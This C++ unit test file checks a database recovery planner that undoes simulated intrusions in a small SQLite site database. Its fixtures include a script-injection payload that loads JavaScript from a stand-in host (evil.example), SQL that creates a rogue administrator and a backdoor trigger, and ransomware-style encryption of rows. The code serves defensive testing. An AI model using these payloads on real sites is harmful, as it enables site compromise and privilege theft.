// The plan for a database, case by case, on real SQLite databases: what was the clean point, what the
// intruder and honest people did since as SQL, then the plan, then the repaired rows.
#include "recover/database_plan.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "judge/judge.h"
#include "site/database_rows.h"
#include "site/executable_value.h"
#include "site/powers.h"
#include "site/test_database.h"

namespace aplomb::recover {
namespace {

constexpr char kTown[] =
    "CREATE TABLE users (id INTEGER PRIMARY KEY, login TEXT, password TEXT, role TEXT, last_login TEXT);"
    "INSERT INTO users VALUES (1, 'maire', '$2y$10$abcdefghijklmnopqrstuv', 'admin', '2026-01-01');"
    "INSERT INTO users VALUES (2, 'claire', '$2y$10$zyxwvutsrqponmlkjihgfe', 'editor', '2026-01-01');"
    "INSERT INTO users VALUES (3, 'reader', '$2y$10$aaaaaaaaaaaaaaaaaaaaaa', 'subscriber', '2026-01-01');"
    "CREATE TABLE news (id INTEGER PRIMARY KEY, title TEXT, body TEXT);"
    "INSERT INTO news VALUES (1, 'Market', 'The market is open on Saturday morning, on the square.');"
    "INSERT INTO news VALUES (2, 'Library', 'The library lends books on Tuesday and on Friday.');"
    "CREATE TABLE log (id INTEGER PRIMARY KEY, line TEXT);"
    "CREATE TRIGGER tidy AFTER INSERT ON news BEGIN DELETE FROM log WHERE id < 10; END;";
constexpr char kScript[] = "Hello <script src=//evil.example/x.js></script>";

site::Database model(ByteView image) {
  auto encoded = site::read_database_image(image);
  EXPECT_TRUE(encoded);
  ByteReader reader(*encoded);
  auto database = site::decode_database(reader);
  EXPECT_TRUE(database);
  return database.value_or(site::Database());
}

// What the judge says of the hacked database when exactly the clean one was approved.
judge::Judgement judge_against(const site::Database& clean, const site::Database& hacked, bool detector) {
  std::set<judge::Identity> approved;
  judge::Judgement judgement;
  auto look = [&](const site::Database& database, auto&& each) {
    for (const site::SchemaObject& object : database.objects)
      if (object.type == site::SchemaType::trigger || object.type == site::SchemaType::view)
        each(judge::ObjectKind::schema, judge::schema_path("town.db", object),
             crypto::sha256(as_bytes(object.sql)));
    for (const site::Table& table : database.tables) {
      site::TablePowers powers = site::judge_table(table, {});
      for (const site::Row& row : table.rows) {
        std::string path = judge::row_path("town.db", table, row);
        if (powers.any() && site::row_power(table, powers, row, {}) == site::RowPower::power)
          each(judge::ObjectKind::row, path, crypto::sha256(site::power_bytes(table, powers, row)));
        for (size_t i = 0; i < row.values.size(); ++i)
          if (auto text = row.values[i].bytes(); text && site::executable_value(*text))
            each(judge::ObjectKind::value, path + "/" + table.columns[i].name,
                 crypto::sha256(as_bytes(*text)));
      }
    }
  };
  look(clean, [&](judge::ObjectKind, const std::string& path, const Sha256& hash) {
    approved.insert({path, hash, 0});
  });
  look(hacked, [&](judge::ObjectKind kind, const std::string& path, const Sha256& hash) {
    if (approved.contains({path, hash, 0})) return;
    judge::JudgedObject object;
    object.identity = {path, hash, 0};
    object.kind = kind;
    object.explanation = {"nothing explains it", {}};
    if (detector && kind == judge::ObjectKind::value)
      object.findings.push_back({Level::malicious, "test-rule", {"a detector spoke", {}}, 0});
    judgement.open.push_back(object);
  });
  return judgement;
}

// One incident: SQL upon the town's database, and what becomes of it.
struct Incident {
  explicit Incident(const std::string& sql, bool with_clean_point = true) {
    site::TestFolder folder;
    site::TestDatabase(folder / "db").run(kTown);
    Bytes clean_image = site::read_all(folder / "db");
    site::TestDatabase(folder / "db").run(sql);
    Bytes image = site::read_all(folder / "db");
    clean = model(clean_image);
    hacked = model(image);
    plan = plan_database("town.db", with_clean_point ? &clean : nullptr, hacked,
                         judge_against(clean, hacked, true), {});
    auto repaired = site::repair_database_image(image, plan.repair);
    EXPECT_TRUE(repaired);
    after = repaired ? model(*repaired) : site::Database();
    text = [&] {
      std::map<std::string, std::string> rows;
      for (const site::Table& table : after.tables)
        for (const site::Row& row : table.rows)
          for (size_t i = 0; i < row.values.size(); ++i)
            rows[table.name + "/" + row.key[0].display() + "/" + table.columns[i].name] =
                row.values[i].display(400);
      return rows;
    }();
  }

  // "" when there is no such row.
  std::string at(const std::string& value) const {
    auto found = text.find(value);
    return found == text.end() ? "" : found->second;
  }
  bool has_schema(const std::string& name, const std::string& part = "") const {
    return std::ranges::any_of(after.objects, [&](const site::SchemaObject& object) {
      return object.name == name && object.sql.find(part) != std::string::npos;
    });
  }
  std::vector<std::string> kept() const {
    std::vector<std::string> paths;
    for (const Kept& kept : plan.kept) paths.push_back(kept.path);
    return paths;
  }
  std::vector<std::string> rejected() const {
    std::vector<std::string> paths;
    for (const RejectedRow& row : plan.rejected) paths.push_back(row.path);
    return paths;
  }

  site::Database clean, hacked, after;
  DatabasePlan plan;
  std::map<std::string, std::string> text;
};

using Paths = std::vector<std::string>;

std::string numbered(const char* format, int from, int to) {
  std::string sql;
  for (int i = from; i < to; ++i) sql += fmt::format(fmt::runtime(format), i);
  return sql;
}

}  // namespace

TEST(DatabasePlan, NothingChangedIsNothingToDo) {
  Incident incident("SELECT 1;");
  EXPECT_TRUE(incident.plan.repair.empty());
  EXPECT_TRUE(incident.plan.changed.empty());
  EXPECT_TRUE(incident.plan.kept.empty());
}

TEST(DatabasePlan, ARogueAdministratorGoes) {
  Incident incident("INSERT INTO users VALUES (9, 'ghost', '$2y$10$bbbbbbbbbbbbbbbbbbbbbb', 'admin', '');");
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/users/9"});
  EXPECT_EQ(incident.at("users/9/login"), "");
  EXPECT_NE(incident.plan.rejected[0].content.find("ghost"), std::string::npos)
      << "the quarantine shows the row";
  EXPECT_EQ(incident.after, incident.clean);
}

TEST(DatabasePlan, ARoleIsPutBackWhileTheLastLoginStays) {
  Incident incident("UPDATE users SET role = 'admin', last_login = '2026-02-02' WHERE id = 3;");
  EXPECT_EQ(incident.at("users/3/role"), "'subscriber'");
  EXPECT_EQ(incident.at("users/3/last_login"), "'2026-02-02'");
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/users/3"});
}

TEST(DatabasePlan, ALoginIsNoChangeOfPower) {
  Incident incident("UPDATE users SET last_login = '2026-02-02';");
  EXPECT_TRUE(incident.plan.repair.empty());
  EXPECT_EQ(incident.kept().size(), 3u);
}

TEST(DatabasePlan, AMissingAdministratorComesBack) {
  Incident incident("DELETE FROM users WHERE id = 1;");
  EXPECT_EQ(incident.after, incident.clean);
  EXPECT_EQ(incident.plan.changed.size(), 1u);
}

TEST(DatabasePlan, AnAdministratorWhoWasMadeANobodyComesBack) {
  Incident incident("UPDATE users SET role = 'subscriber', last_login = '2026-02-02' WHERE id = 1;");
  EXPECT_EQ(incident.at("users/1/role"), "'admin'");
  EXPECT_EQ(incident.at("users/1/last_login"), "'2026-02-02'");
  EXPECT_TRUE(incident.plan.rejected.empty()) << "there is nothing to set aside";
}

TEST(DatabasePlan, ARowThatIsBadTwiceIsPutRightTwice) {
  Incident incident(fmt::format("UPDATE users SET role = 'admin', last_login = '{}' WHERE id = 3;", kScript));
  EXPECT_EQ(incident.at("users/3/role"), "'subscriber'");
  EXPECT_EQ(incident.at("users/3/last_login"), "'2026-01-01'");
}

TEST(DatabasePlan, AScriptInAnOldArticleIsUndone) {
  Incident incident(
      fmt::format("UPDATE news SET body = body || '{}', title = 'New title' WHERE id = 1;", kScript));
  EXPECT_EQ(incident.at("news/1/body"), "'The market is open on Saturday morning, on the square.'");
  EXPECT_EQ(incident.at("news/1/title"), "'New title'") << "what is harmless of the edit stays";
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/news/1/body"});
}

TEST(DatabasePlan, AScriptInANewArticleIsRejectedWithIt) {
  Incident incident(fmt::format("INSERT INTO news VALUES (3, 'Spam', '{}');", kScript));
  EXPECT_EQ(incident.at("news/3/title"), "");
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/news/3/body"});
}

TEST(DatabasePlan, ANewArticleAndAnEditAreKept) {
  Incident incident(
      "INSERT INTO news VALUES (3, 'Fair', 'The fair comes in May.'); UPDATE news SET body = 'Closed.' WHERE "
      "id = 2;");
  EXPECT_TRUE(incident.plan.repair.empty());
  EXPECT_EQ(incident.kept(), (Paths{"db:town.db/news/2", "db:town.db/news/3"}));
  EXPECT_EQ(incident.at("news/3/title"), "'Fair'");
}

TEST(DatabasePlan, ATriggerOfTheIntruderGoes) {
  Incident incident(
      "CREATE TRIGGER back AFTER UPDATE ON users BEGIN UPDATE users SET role = 'admin' WHERE id = 3; END;");
  EXPECT_FALSE(incident.has_schema("back"));
  EXPECT_TRUE(incident.has_schema("tidy"));
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/trigger:back"});
}

TEST(DatabasePlan, AChangedTriggerIsTheCleanOneAgain) {
  Incident incident(
      "DROP TRIGGER tidy; CREATE TRIGGER tidy AFTER INSERT ON news BEGIN DELETE FROM users; END;");
  EXPECT_TRUE(incident.has_schema("tidy", "DELETE FROM log"));
  EXPECT_EQ(incident.plan.changed.size(), 1u);
}

TEST(DatabasePlan, ATriggerThatIsGoneComesBack) {
  Incident incident("DROP TRIGGER tidy;");
  EXPECT_TRUE(incident.has_schema("tidy"));
  EXPECT_EQ(incident.plan.changed.size(), 1u);
}

TEST(DatabasePlan, AViewThatNobodyExplainsGoes) {
  Incident incident("CREATE VIEW all_users AS SELECT * FROM users;");
  EXPECT_FALSE(incident.has_schema("all_users"));
}

TEST(DatabasePlan, ADroppedOrReshapedTableReloadsTheWhole) {
  for (const char* sql :
       {"DROP TABLE news;", "ALTER TABLE news DROP COLUMN body;", "ALTER TABLE users RENAME TO u;"}) {
    Incident incident(sql);
    EXPECT_TRUE(incident.plan.reload_whole) << sql;
    EXPECT_TRUE(incident.plan.repair.empty()) << sql;
    EXPECT_EQ(incident.plan.reload_reason.arguments.size(), 1u) << sql;
  }
  EXPECT_FALSE(Incident("CREATE TABLE extra (a TEXT);").plan.reload_whole);
  EXPECT_FALSE(
      Incident("ALTER TABLE news ADD COLUMN summary TEXT;").plan.reload_whole);  // an ordinary upgrade
}

TEST(DatabasePlan, AFewDeletedRowsStayDeletedAndManyComeBack) {
  std::string articles =
      numbered("INSERT INTO news VALUES ({0}, 'Title {0}', 'A text about the town.');", 10, 30);
  Incident few("DELETE FROM news WHERE id = 2;");
  EXPECT_TRUE(few.plan.repair.empty());
  // The clean point must have the rows: plan against a town that had them.
  site::TestFolder folder;
  site::TestDatabase(folder / "db").run(std::string(kTown) + articles);
  site::Database clean = model(site::read_all(folder / "db"));
  auto gone_after = [&](const std::string& sql) {
    site::TestFolder other;
    site::write_all(other / "db", site::read_all(folder / "db"));
    site::TestDatabase(other / "db").run(sql);
    site::Database hacked = model(site::read_all(other / "db"));
    return plan_database("town.db", &clean, hacked, judge_against(clean, hacked, true), {})
        .repair.rows.size();
  };
  EXPECT_EQ(gone_after("DELETE FROM news WHERE id >= 20;"), 0u) << "ten of twenty-two: less than half";
  EXPECT_EQ(gone_after("DELETE FROM news WHERE id >= 19;"), 11u) << "eleven of twenty-two";
  EXPECT_EQ(gone_after("DELETE FROM news;"), 22u);
}

TEST(DatabasePlan, PeopleAndNearlyAllOfASmallTableComeBack) {
  site::TestFolder folder;
  std::string sql =
      "CREATE TABLE users (id INTEGER PRIMARY KEY, login TEXT, password TEXT, role TEXT);"
      "CREATE TABLE agenda (id INTEGER PRIMARY KEY, what TEXT);";
  for (int i = 1; i <= 8; ++i)
    sql += "INSERT INTO users VALUES (" + std::to_string(i) + ", 'u" + std::to_string(i) +
           "', '$2y$10$abcdefghijklmnopqrstuv', 'member'); INSERT INTO agenda VALUES (" + std::to_string(i) +
           ", 'fair');";
  site::TestDatabase(folder / "db").run(sql);
  site::Database clean = model(site::read_all(folder / "db"));
  auto back_after = [&](const std::string& harm) {
    site::TestFolder other;
    site::write_all(other / "db", site::read_all(folder / "db"));
    site::TestDatabase(other / "db").run(harm);
    site::Database hacked = model(site::read_all(other / "db"));
    return plan_database("town.db", &clean, hacked, judge_against(clean, hacked, true), {})
        .repair.rows.size();
  };
  EXPECT_EQ(back_after("DELETE FROM users WHERE id > 5;"), 3u);
  EXPECT_EQ(back_after("DELETE FROM users WHERE id > 6;"), 0u);
  EXPECT_EQ(back_after("DELETE FROM agenda WHERE id > 1;"), 7u);
  EXPECT_EQ(back_after("DELETE FROM agenda WHERE id > 3;"), 0u) << "the webmaster tidied up";
}

TEST(DatabasePlan, EncryptedTextsComeBackAndHonestEditsStay) {
  std::string noise = "x'" + std::string(120, 'a') + "f3'";
  Incident incident("UPDATE news SET body = " + noise + ";");
  EXPECT_TRUE(incident.plan.repair.empty()) << "two are not many";
  site::TestFolder folder;
  site::TestDatabase(folder / "db")
      .run(std::string(kTown) +
           numbered("INSERT INTO news VALUES ({0}, 'Title', 'A text about the town number {0}.');", 10, 22));
  site::Database clean = model(site::read_all(folder / "db"));
  site::TestDatabase(folder / "db")
      .run("UPDATE news SET body = " + noise +
           " WHERE id <> 2; UPDATE news SET body = 'Now it is closed for the summer.' WHERE id = 2;");
  Bytes image = site::read_all(folder / "db");
  site::Database hacked = model(image);
  DatabasePlan plan = plan_database("town.db", &clean, hacked, judge_against(clean, hacked, true), {});
  EXPECT_EQ(plan.repair.rows.size(), 13u);
  ASSERT_EQ(plan.kept.size(), 1u);
  EXPECT_EQ(plan.kept[0].path, "db:town.db/news/2");
  auto repaired = site::repair_database_image(image, plan.repair);
  ASSERT_TRUE(repaired);
  EXPECT_EQ(model(*repaired).find("news")->rows[0], clean.find("news")->rows[0]);
}

TEST(DatabasePlan, ShortTextsBesideAnEncryptionComeBackToo) {
  site::TestFolder folder;
  std::string sql =
      "CREATE TABLE news (id INTEGER PRIMARY KEY, body TEXT); CREATE TABLE topics (id INTEGER PRIMARY KEY, "
      "title TEXT);"
      "INSERT INTO topics VALUES (1, 'School');";
  for (int i = 1; i < 12; ++i)
    sql +=
        "INSERT INTO news VALUES (" + std::to_string(i) + ", 'The fair of the town is on Sunday, at ten.');";
  site::TestDatabase(folder / "db").run(sql);
  site::Database clean = model(site::read_all(folder / "db"));
  constexpr char kCipher[] = "a9jGhkQaQsE9E2gnEqvY27jCFkQen6H3T7JBdjLE5kGIG9GuIuC";
  site::TestDatabase(folder / "db")
      .run(std::string("UPDATE news SET body = '") + kCipher + "' || id; UPDATE topics SET title = '" +
           kCipher + "';");
  site::Database hacked = model(site::read_all(folder / "db"));
  EXPECT_EQ(plan_database("town.db", &clean, hacked, {}, {}).repair.rows.size(), 12u);
}

TEST(DatabasePlan, LooksEncryptedTellsAChangeFromACipher) {
  using site::Value;
  Value text{"The market is open on Saturday morning."};
  EXPECT_TRUE(looks_encrypted(text, Value{"q8Vv1o0SxSx9fJ0mUqz0Lw3k2m1n0bEo"}));
  EXPECT_TRUE(looks_encrypted(text, Value{site::Blob{Bytes(64, 0x9c)}}));
  EXPECT_FALSE(looks_encrypted(text, Value{"The market is closed on Saturday morning."}));
  EXPECT_FALSE(looks_encrypted(text, text));
  EXPECT_FALSE(looks_encrypted(text, Value{"short"}));
  EXPECT_FALSE(looks_encrypted(text, Value{}));
  EXPECT_FALSE(
      looks_encrypted(Value{"q8Vv1o0SxSx9fJ0mUqz0Lw3k2m1n0bEo"}, Value{"bm9pc2Vub2lzZW5vaXNlbm9pc2U9PT0="}))
      << "it was no readable text before";
}

TEST(DatabasePlan, WithoutACleanPointOnlyWhatADetectorSpokeOfGoes) {
  Incident incident(
      fmt::format("INSERT INTO users VALUES (9, 'ghost', '$2y$10$bbbbbbbbbbbbbbbbbbbbbb', 'admin', '');"
                  "INSERT INTO news VALUES (3, 'Spam', '{}'); DROP TRIGGER tidy;",
                  kScript),
      false);
  EXPECT_EQ(incident.rejected(), Paths{"db:town.db/news/3/body"});
  EXPECT_EQ(incident.at("users/9/login"), "'ghost'");
  EXPECT_EQ(incident.at("news/3/title"), "");
  EXPECT_FALSE(incident.has_schema("tidy"));
  EXPECT_TRUE(incident.plan.kept.empty());
}

TEST(DatabasePlan, AnotherDatabasesObjectsAreNotThisOnes) {
  site::Database clean = model(site::image_of(kTown));
  judge::Judgement judgement;
  judge::JudgedObject object;
  object.identity.path = "db:town.db2/users/1";
  judgement.open = {object};
  EXPECT_TRUE(plan_database("town.db", &clean, clean, judgement, {}).repair.empty());
}

}  // namespace aplomb::recover
